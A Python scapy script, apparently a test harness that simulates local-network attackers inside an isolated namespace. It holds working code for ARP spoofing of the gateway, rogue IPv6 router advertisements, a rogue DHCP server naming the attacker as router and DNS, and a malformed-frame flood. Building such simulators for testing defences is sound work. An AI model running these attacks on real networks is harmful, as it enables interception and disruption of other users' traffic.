"""Attackers of a local network, as their tools do it: `python attackers.py KIND LINK GATEWAY OWN`, until killed.

Run inside the network's namespace. `OWN` is the address that the attacker would have traffic for. Prints "ready".
"""

from __future__ import annotations

import logging
import random
import sys
import time
from collections.abc import Callable, Iterator

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)  # scapy looks at this machine's routes when imported
from scapy.arch import get_if_hwaddr  # noqa: E402
from scapy.config import conf  # noqa: E402
from scapy.layers.dhcp import BOOTP, DHCP  # noqa: E402
from scapy.layers.inet import IP, UDP  # noqa: E402
from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6  # noqa: E402
from scapy.layers.l2 import ARP, Ether  # noqa: E402
from scapy.packet import Packet  # noqa: E402

EVERYBODY = "ff:ff:ff:ff:ff:ff"
PAUSE_S = 1.0  # bettercap's
NOISE_PER_S = 10_000


def arp(own_mac: str, gateway: str, own: str) -> Iterator[Packet]:
    """The gateway's address is at the attacker: said to everybody, again and again."""
    while True:
        yield Ether(src=own_mac, dst=EVERYBODY) / ARP(op=2, hwsrc=own_mac, psrc=gateway, hwdst=EVERYBODY, pdst=gateway)


def router(own_mac: str, gateway: str, own: str) -> Iterator[Packet]:
    """A router of high preference with a network of its own."""
    while True:
        frame = Ether(src=own_mac, dst="33:33:00:00:00:01") / IPv6(src="fe80::666", dst="ff02::1", hlim=255)
        prefix = ICMPv6NDOptPrefixInfo(prefix="2001:db8:666::", prefixlen=64)
        yield frame / ICMPv6ND_RA(routerlifetime=1800, prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=own_mac) / prefix


def noise(own_mac: str, gateway: str, own: str) -> list[bytes]:
    """Everything the filter lets through, damaged in any way."""
    chance = random.Random(13)
    sound = [bytes(next(make(own_mac, gateway, own))) for make in (arp, router)]
    sound.append(bytes(offer(own_mac, gateway, own, b"\0" * 6, 1, "offer")))
    damaged = []
    for _ in range(5000):
        frame = bytearray(chance.choice(sound))
        for _ in range(chance.randrange(6)):
            frame[chance.randrange(42, len(frame) + 1) - 1] = chance.randrange(256)
        damaged.append(bytes(frame[: chance.randrange(60, 500)]) + chance.randbytes(chance.choice((0, 0, 900))))
    return damaged


def offer(own_mac: str, gateway: str, own: str, client: bytes, number: int, kind: str) -> Packet:
    options = [
        ("message-type", kind),
        ("server_id", own),
        ("lease_time", 600),
        ("router", own),
        ("name_server", own),
        "end",
    ]
    bootp = BOOTP(op=2, yiaddr=own, siaddr=own, chaddr=client, xid=number) / DHCP(options=options)
    return Ether(src=own_mac, dst=EVERYBODY) / IP(src=own, dst="255.255.255.255") / UDP(sport=67, dport=68) / bootp


def serve_dhcp(link: str, own_mac: str, gateway: str, own: str) -> None:
    """A second server that names itself as the way out: slower than the first, so that the laptop is online."""
    with conf.L2socket(iface=link, filter=None) as wire:
        print("ready", flush=True)
        while True:
            frame = wire.recv()
            if frame is not None and BOOTP in frame and frame[BOOTP].op == 1:
                time.sleep(0.2)
                wire.send(offer(own_mac, gateway, own, frame[BOOTP].chaddr, frame[BOOTP].xid, "offer"))


REPEATED: dict[str, Callable[[str, str, str], Iterator[Packet]]] = {"arp": arp, "router": router}


def main() -> None:
    kind, link, gateway, own = sys.argv[1:]
    own_mac = get_if_hwaddr(link)
    if kind == "dhcp":
        serve_dhcp(link, own_mac, gateway, own)
        return
    frames = noise(own_mac, gateway, own) if kind == "noise" else []
    with conf.L2socket(iface=link) as wire:
        print("ready", flush=True)
        while frames:
            begun = time.monotonic()
            for frame in frames:
                wire.outs.send(frame)
            time.sleep(max(0.0, begun + len(frames) / NOISE_PER_S - time.monotonic()))
        for frame in REPEATED[kind](own_mac, gateway, own):
            wire.send(frame)
            time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
